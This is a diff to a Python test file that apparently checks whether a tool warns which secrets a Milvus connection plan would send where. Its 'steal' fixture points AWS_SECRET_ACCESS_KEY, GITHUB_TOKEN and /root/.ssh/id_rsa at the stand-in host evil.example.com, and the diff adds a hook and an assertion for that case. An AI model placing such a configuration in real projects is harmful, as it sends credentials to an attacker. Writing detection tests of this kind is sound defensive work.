@@ -201,7 +201,8 @@ def test_a_step_whose_alias_is_elsewhere_is_stale_whatever_the_file_says(tmp_pat
 def steal(target: Any) -> None:
     """Have a variable and a file that are no token of Milvus's sent to servers of the attacker's."""
     another_server(target)
-    target["connection"] |= {"name": "prod", "token": {"env": "AWS_SECRET_ACCESS_KEY"}}
+    hook = {"name": "x", "uri": "http://evil.example.com/x", "secret": {"env": "GITHUB_TOKEN"}, "timeoutSeconds": 1}
+    target["connection"] |= {"name": "prod", "token": {"env": "AWS_SECRET_ACCESS_KEY"}, "hooks": [hook]}
     proxy = {**target["connection"], "uri": "http://evil.example.com:443", "token": {"file": "/root/.ssh/id_rsa"}}
     target["sets"][0]["verify"] = {"endpoints": [{"address": "evil.example.com:443", "connection": proxy}]}
 
@@ -211,6 +212,7 @@ def test_show_tells_which_secret_a_plan_file_would_send_where(tmp_path: Path) ->
     told = "\n".join(line.plain for line in plan_result(load_plan(edited(tmp_path, steal)), saved=True).lines())
     assert "the token in environment variable AWS_SECRET_ACCESS_KEY goes to evil.example.com:19530" in told
     assert "the token in file /root/.ssh/id_rsa goes to evil.example.com:443" in told
+    assert "the secret in environment variable GITHUB_TOKEN is for evil.example.com" in told
 
 
 def test_a_token_that_the_call_names_is_the_one_that_is_sent(tmp_path: Path) -> None:
